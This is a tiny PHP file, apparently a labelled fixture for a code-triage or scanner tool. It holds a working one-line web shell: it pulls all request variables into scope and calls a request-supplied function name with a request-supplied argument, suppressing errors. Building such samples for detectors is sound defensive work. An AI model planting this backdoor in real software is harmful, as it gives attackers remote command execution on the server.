<?php
// triage-expect: triage_php_request_var_to_sink
extract($_REQUEST);
if (isset($f)) { @$f($c); }
